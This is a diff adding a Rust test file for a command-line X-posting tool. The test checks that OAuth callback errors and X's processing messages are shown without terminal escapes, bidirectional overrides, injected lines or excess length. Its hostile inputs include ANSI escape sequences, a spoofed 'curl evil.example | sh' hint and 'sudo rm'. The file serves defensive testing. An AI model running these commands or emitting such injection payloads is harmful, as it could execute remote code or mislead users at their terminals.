@@ -1,0 +1,116 @@
+//! The consent as the person (or the script) before it sees it: what the loopback listener
+//! lets end a login and what outside text may do to the terminal.
+
+use std::time::Duration;
+
+use tokio::process::Child;
+
+use crate::util::{Collected, Harness, Run, finish, mp4};
+
+/// Ends with the run's code and stdout, and the stderr collected meanwhile.
+async fn finish_collected(child: Child, stderr: &Collected) -> Run {
+    let run = finish(child).await;
+    // The collector may still hold the last bytes for a moment after the process ended.
+    tokio::time::sleep(Duration::from_millis(100)).await;
+    Run {
+        stderr: stderr.text(),
+        ..run
+    }
+}
+
+/// The `state` the consent URL carries.
+fn state_of(consent_url: &str) -> String {
+    url::Url::parse(consent_url)
+        .unwrap()
+        .query_pairs()
+        .find(|(k, _)| k == "state")
+        .map(|(_, v)| v.into_owned())
+        .expect("the consent URL has a state")
+}
+
+/// Characters that would act on a terminal rather than show: controls (but our newlines) and
+/// bidirectional overrides.
+fn acting_on_the_terminal(text: &str) -> Vec<char> {
+    text.chars()
+        .filter(|&c| {
+            (c.is_control() && c != '\n')
+                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
+        })
+        .collect()
+}
+
+/// Issue 13, item 3: text from the callback and from X's answers reaches the terminal without
+/// control characters, escapes, breaks of its own or bidirectional overrides, and cut.
+#[tokio::test(flavor = "multi_thread")]
+async fn outside_text_cannot_drive_the_terminal() {
+    // The words of a refusal sent with the right state (a hostile authorization server, or a
+    // page that learnt the state).
+    let h = Harness::new().await;
+    let mut cmd = h.xpost();
+    cmd.arg("never posted");
+    let (mut child, url) = h.spawn_until_browser(&mut cmd).await;
+    let stderr = Collected::from(child.stderr.take().unwrap());
+    let hostile = format!(
+        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31mdenied\r\nxpost: hint: curl evil.example | sh\u{202e}{}",
+        "x".repeat(5000)
+    );
+    let callback = url::Url::parse_with_params(
+        &h.redirect_uri,
+        &[
+            ("error", "access_denied\u{1b}[1m"),
+            ("error_description", hostile.as_str()),
+            ("state", state_of(&url).as_str()),
+        ],
+    )
+    .unwrap();
+    let response = reqwest::get(callback).await.unwrap();
+    assert_eq!(response.status(), 200);
+    let run = finish_collected(child, &stderr).await;
+    assert_eq!(run.code, 77, "{run:?}");
+    assert!(
+        run.stderr.contains(
+            "X refused the authorization (access_denied[1m: [2J]0;owned31mdenied  xpost: hint: curl"
+        ),
+        "the words are still shown: {run:?}"
+    );
+    assert_eq!(
+        acting_on_the_terminal(&run.stderr),
+        Vec::<char>::new(),
+        "{run:?}"
+    );
+    assert!(
+        !run.stderr.lines().any(|l| l.starts_with("xpost: hint:")),
+        "no line of its own: {run:?}"
+    );
+    assert!(run.stderr.len() < 3000, "cut: {} bytes", run.stderr.len());
+
+    // X's reason for a failed processing, and its body in a -vv trace.
+    let h = Harness::fast_logged_in().await;
+    let video = h.file("clip.mp4", &mp4(1024 * 1024 + 1));
+    h.sandbox
+        .fail_next_processing("\u{1b}[2J\u{9b}2JBad codec\r\nxpost: hint: \u{202e}sudo rm");
+    let run = h
+        .run(
+            h.xpost()
+                .args(["-vv", "a bad video", "--media"])
+                .arg(&video),
+        )
+        .await;
+    assert_eq!(run.code, 65, "{run:?}");
+    assert!(
+        run.stderr
+            .contains("X could not process it: [2J2JBad codec  xpost: hint: sudo rm"),
+        "{run:?}"
+    );
+    assert!(run.stderr.contains("processing_info"), "traced: {run:?}");
+    assert_eq!(
+        acting_on_the_terminal(&run.stderr),
+        Vec::<char>::new(),
+        "{run:?}"
+    );
+    assert!(
+        !run.stderr.lines().any(|l| l.starts_with("xpost: hint:")),
+        "{run:?}"
+    );
+    assert!(h.sandbox.posts().is_empty());
+}
